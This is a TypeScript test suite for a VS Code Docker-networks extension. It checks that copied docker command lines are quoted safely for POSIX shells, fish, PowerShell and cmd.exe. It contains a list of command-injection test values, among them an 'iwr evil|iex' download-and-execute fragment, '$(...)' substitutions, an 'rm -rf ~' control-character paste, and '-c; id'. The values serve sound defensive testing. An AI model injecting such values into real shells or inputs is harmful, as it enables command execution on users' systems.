// Lines copied for a terminal must run exactly what they show. For every shell Debian offers, the line goes through
// the real shell and the program must receive exactly the original argv. PowerShell and cmd.exe cannot be installed
// here: their quoting is checked against its rules instead.
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { toConnectCliCommand } from '../../src/model/connectRequest';
import { createNetworkArgv, emptyAnswers, toDockerCliCommand } from '../../src/model/createNetwork';
import {
  cliLine,
  commandLine,
  quoteArgument,
  SHELL_KINDS,
  shellKindOf,
  ShellKind,
  UnquotableValueError,
} from '../../src/model/shellQuoting';

const { findProgram } = require('../../../scripts/lib/apt.js') as { findProgram(name: string): string | undefined };

const HOSTILE = [
  "x'; iwr evil|iex; #",
  'a & calc',
  'a | b',
  '$(touch /tmp/dn-pwned)',
  '`touch /tmp/dn-pwned`',
  'line\nbreak',
  '%PATH%',
  '!x!',
  'a"b',
  "it's",
  '*',
  '~',
  '-rf',
  '',
  ' leading and trailing ',
  'tab\there',
  'ünïcødé ☃ 网络',
  'back\\slash\\',
  '\\',
  '{a,b}',
  '#comment',
  'a;b',
  '$HOME',
  '‘curly’',
  'x > /tmp/dn-pwned',
  '=ls',
  '=',
  'a=~/x',
  '--label=~root',
  '?',
  '[ab]',
  '^x',
  'x#y',
  '%self',
  '(a)',
  '$((1+1))',
  '$' + '{HOME}',
  '\\$HOME',
  "'",
  '"',
  "\\'",
  '\n',
  'a\\\nb',
  '@(a)',
  'a,b',
  '-a.b',
  '--x=y z',
];

/** The shells Debian offers that read a command with `-c`, with how argv comes back (NUL-separated). */
const SHELLS: { name: string; program: string; kind: ShellKind }[] = [
  { name: 'bash', program: 'bash', kind: 'posix' },
  { name: 'dash', program: 'dash', kind: 'posix' },
  { name: 'zsh', program: 'zsh', kind: 'posix' },
  { name: 'mksh', program: 'mksh', kind: 'posix' },
  { name: 'busybox sh', program: 'busybox', kind: 'posix' },
  { name: 'fish', program: 'fish', kind: 'fish' },
];

/** What a program receives when the shell runs `line`: node prints its argv NUL-separated. */
function argvThroughShell(program: string, line: string): string[] {
  const args = program.endsWith('/busybox') ? ['sh', '-c', line] : ['-c', line];
  const result = spawnSync(program, args, { encoding: 'utf8', env: { ...process.env, HOME: '/tmp/dn-home' } });
  assert.equal(result.status, 0, `${program} failed on ${line}: ${result.stderr}`);
  return result.stdout.split('\0').slice(0, -1);
}

const PRINT_ARGV = [process.execPath, '-e', 'process.stdout.write(process.argv.slice(1).map(a => a + "\\0").join(""))'];

/** The shell's path; under CI a missing shell fails (the scripts install it), elsewhere the test is skipped. */
function installedShell(t: { skip(message: string): void }, name: string): string | undefined {
  const program = findProgram(name);
  if (program) return program;
  if (process.env.CI === 'true') assert.fail(`${name} is missing: the test scripts install it from Debian (scripts/lib/apt.js)`);
  t.skip(`${name} is not installed`);
  return undefined;
}

describe('copied command lines run exactly what they show, in every shell', () => {
  for (const shell of SHELLS) {
    test(`${shell.name}: hostile values come back as the exact argv`, t => {
      const program = installedShell(t, shell.program);
      if (!program) return;
      const line = commandLine([...PRINT_ARGV, ...HOSTILE], shell.kind);
      assert.deepEqual(argvThroughShell(program, line), HOSTILE);
    });
  }

  for (const shell of SHELLS) {
    test(`${shell.name}: the copied docker network create and connect lines reach docker as the exact argv`, t => {
      const program = installedShell(t, shell.program);
      if (!program) return;
      // `docker` is a shell function here that prints its arguments, so the exact copied line is what runs.
      const printer = commandLine(PRINT_ARGV, shell.kind);
      const define = shell.kind === 'fish' ? `function docker; ${printer} $argv; end\n` : `docker() { ${printer} "$@"; }\n`;
      const pairs = Object.fromEntries(HOSTILE.map((value, index) => [`k${index}${value}`, value]));
      const answers = {
        ...emptyAnswers(),
        name: "x'; iwr evil|iex; #",
        driver: '$(touch /tmp/dn-pwned)',
        labels: pairs,
        driverOptions: pairs,
        ipamOptions: pairs,
      };
      const create = toDockerCliCommand(answers, shell.kind);
      assert.deepEqual(argvThroughShell(program, define + create.line!), createNetworkArgv(answers).slice(1));
      const options = { aliases: HOSTILE, links: HOSTILE, linkLocalIps: HOSTILE, driverOptions: pairs, ipv4: '`id`', ipv6: '$HOME' };
      const connect = toConnectCliCommand('a & b', '-c; id', options, shell.kind);
      const expected = [
        'network',
        'connect',
        ...HOSTILE.map(a => `--alias=${a}`),
        '--ip=`id`',
        '--ip6=$HOME',
        ...HOSTILE.map(l => `--link=${l}`),
        ...HOSTILE.map(ip => `--link-local-ip=${ip}`),
        ...Object.entries(pairs).map(([k, v]) => `--driver-opt=${k}=${v}`),
        'a & b',
        '-c; id',
      ];
      assert.deepEqual(argvThroughShell(program, define + connect.line!), expected);
    });
  }

  test('the docker create and connect lines quote each flag with its value as one argument', () => {
    const answers = { ...emptyAnswers(), name: 'web', labels: { owner: "x'; iwr evil|iex; #" } };
    assert.deepEqual(createNetworkArgv(answers), ['docker', 'network', 'create', "--label=owner=x'; iwr evil|iex; #", 'web']);
    assert.deepEqual(toDockerCliCommand(answers), { line: `docker network create '--label=owner=x'\\''; iwr evil|iex; #' web` });
    assert.deepEqual(toDockerCliCommand(answers, 'powershell'), { line: `docker network create '--label=owner=x''; iwr evil|iex; #' web` });
    assert.deepEqual(toConnectCliCommand('web', 'api', { aliases: ['a & b'], links: [], linkLocalIps: [], driverOptions: {} }, 'cmd'), {
      line: 'docker network connect "--alias=a & b" web api',
    });
  });

  test('a value the shell cannot carry is a refusal naming the value, not a line', () => {
    const answers = { ...emptyAnswers(), name: 'web', labels: { path: '%PATH%' } };
    const refused = toDockerCliCommand(answers, 'cmd');
    assert.equal(refused.line, undefined);
    assert.match(refused.problem!, /"--label=path=%PATH%" cannot be written safely for cmd\.exe/);
    assert.ok(toDockerCliCommand(answers, 'posix').line);
    const connect = toConnectCliCommand('web', 'api', { aliases: [], links: [], linkLocalIps: [], driverOptions: { x: 'a\0b' } });
    assert.match(connect.problem!, /NUL/);
  });

  test('terminal control characters are refused in every shell: pasted, they act as keys', () => {
    for (const kind of SHELL_KINDS) {
      for (const value of ['a\x03; rm -rf ~', 'x\x1b[201~; calc', 'cr\rhere', 'del\x7f', 'csi\u009b']) {
        assert.match(cliLine(['docker', value], kind).problem ?? '', /control character/, `${kind} ${JSON.stringify(value)}`);
      }
    }
  });
});

describe('PowerShell and cmd.exe quoting (not installable from Debian)', () => {
  test('PowerShell: single quotes, doubled inside (typographic ones too), nothing left to expand', () => {
    assert.equal(quoteArgument("x'; iwr evil|iex; #", 'powershell'), "'x''; iwr evil|iex; #'");
    assert.equal(quoteArgument('$(calc) `n $env:PATH', 'powershell'), "'$(calc) `n $env:PATH'");
    assert.equal(quoteArgument('‘a’', 'powershell'), "'‘‘a’’'");
    for (const value of ['a"b', 'trailing\\']) assert.throws(() => quoteArgument(value, 'powershell'), UnquotableValueError);
  });

  test('cmd.exe: double quotes keep & | < > ^ literal; %, !, " and line breaks are refused; trailing backslashes doubled', () => {
    assert.equal(quoteArgument('a & calc | x > y ^ z', 'cmd'), '"a & calc | x > y ^ z"');
    assert.equal(quoteArgument('C:\\dir\\', 'cmd'), '"C:\\dir\\\\"');
    for (const value of ['%PATH%', '!x!', 'a"b', 'line\nbreak']) {
      assert.throws(
        () => quoteArgument(value, 'cmd'),
        (err: Error) =>
          err instanceof UnquotableValueError && err.message.includes('cmd.exe') && err.message.includes(JSON.stringify(value)),
      );
    }
  });

  test('every shell refuses NUL; plain words stay unquoted', () => {
    for (const kind of SHELL_KINDS) {
      assert.throws(() => quoteArgument('a\0b', kind), /NUL/);
      assert.equal(quoteArgument('10.0.0.0/24', kind), '10.0.0.0/24');
      assert.equal(quoteArgument('--internal', kind), '--internal');
    }
    for (const kind of ['posix', 'fish', 'cmd'] as const) assert.equal(quoteArgument('--subnet=10.0.0.0/24', kind), '--subnet=10.0.0.0/24');
    // zsh expands a word starting with = to a program's path.
    for (const kind of ['posix', 'fish'] as const) assert.equal(quoteArgument('=ls', kind), "'=ls'");
  });

  test('PowerShell: table of expected lines', () => {
    const table: [string[], string][] = [
      [['docker', 'network', 'create', '--subnet=10.0.0.0/24', 'web'], "docker network create '--subnet=10.0.0.0/24' web"],
      [['docker', '--label=a,b', '@x', 'a,b', '-Dmaven.test=1', '--%'], "docker '--label=a,b' '@x' 'a,b' '-Dmaven.test=1' '--%'"],
      [
        ['docker', '$env:PATH', '$(calc)', '`n', "it's", 'a;b|c&d', '#x', '~', '*'],
        "docker '$env:PATH' '$(calc)' '`n' 'it''s' 'a;b|c&d' '#x' '~' '*'",
      ],
      [['C:\\Program Files\\Docker\\docker.exe', 'ps'], "& 'C:\\Program Files\\Docker\\docker.exe' ps"],
    ];
    for (const [argv, line] of table) assert.equal(commandLine(argv, 'powershell'), line);
    for (const value of ['', 'a"b', 'a“b”', 'trailing\\'])
      assert.throws(() => quoteArgument(value, 'powershell'), UnquotableValueError, JSON.stringify(value));
  });

  test('cmd.exe: table of expected lines', () => {
    const table: [string[], string][] = [
      [['docker', 'network', 'create', '--label=a=b', 'web'], 'docker network create --label=a=b web'],
      [
        ['docker', 'a & calc', 'x|y', '<in', '>out', '^', '(a)', '', 'a b\\'],
        'docker "a & calc" "x|y" "<in" ">out" "^" "(a)" "" "a b\\\\"',
      ],
    ];
    for (const [argv, line] of table) assert.equal(commandLine(argv, 'cmd'), line);
  });

  // PowerShell and cmd.exe cannot be run here, so the safety property is checked structurally instead: in what each
  // shell is given, every metacharacter sits inside a quoted span that the shell reads literally.
  test('no PowerShell or cmd.exe metacharacter is left outside quotes', () => {
    const psMeta = /[\s$`'"‘’‚‛“”„;&|<>(){}@,#*?[\]~%!^]/;
    const cmdMeta = /[\s&|<>^()%!";]/;
    for (const value of HOSTILE) {
      const ps = (() => {
        try {
          return quoteArgument(value, 'powershell');
        } catch {
          return undefined;
        }
      })();
      if (ps !== undefined && psMeta.test(value)) {
        assert.ok(ps.startsWith("'") && ps.endsWith("'"), `PowerShell left ${JSON.stringify(value)} unquoted: ${ps}`);
        // Inside, every single quote (any of PowerShell's four) comes doubled, so none ends the string.
        assert.ok(!/['‘’‚‛]/.test(ps.slice(1, -1).replace(/(['‘’‚‛])\1/g, '')), `PowerShell quote escapes ${ps}`);
      }
      const cmd = (() => {
        try {
          return quoteArgument(value, 'cmd');
        } catch {
          return undefined;
        }
      })();
      if (cmd !== undefined) {
        assert.ok(!/[%!"\r\n]/.test(cmd.slice(1, -1)), `cmd.exe would expand or end the quote in ${cmd}`);
        if (cmdMeta.test(value))
          assert.ok(cmd.startsWith('"') && cmd.endsWith('"'), `cmd.exe left ${JSON.stringify(value)} unquoted: ${cmd}`);
      }
    }
  });

  test('the dockerNetworks.cliShell setting offers auto and exactly the shells quoted for, default auto', () => {
    const manifest = JSON.parse(readFileSync(join(__dirname, '../../../package.json'), 'utf8'));
    const setting = manifest.contributes.configuration.properties['dockerNetworks.cliShell'];
    assert.deepEqual(setting.enum, ['auto', ...SHELL_KINDS]);
    assert.equal(setting.default, 'auto');
    assert.ok(setting.markdownDescription || setting.description);
  });

  test("the shell is read from VS Code's env.shell", () => {
    assert.deepEqual(
      [
        '/bin/bash',
        '/usr/bin/fish',
        'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
        'powershell.exe',
        'C:\\Windows\\System32\\cmd.exe',
        '/bin/zsh',
        undefined,
        '/usr/bin/pwsh',
        'C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE',
        'CMD.EXE',
        '/bin/dash',
        '',
        '/opt/homebrew/bin/fish',
        '/usr/bin/nushell',
      ].map(shellKindOf),
      [
        'posix',
        'fish',
        'powershell',
        'powershell',
        'cmd',
        'posix',
        'posix',
        'powershell',
        'powershell',
        'cmd',
        'posix',
        'posix',
        'fish',
        'posix',
      ],
    );
  });
});
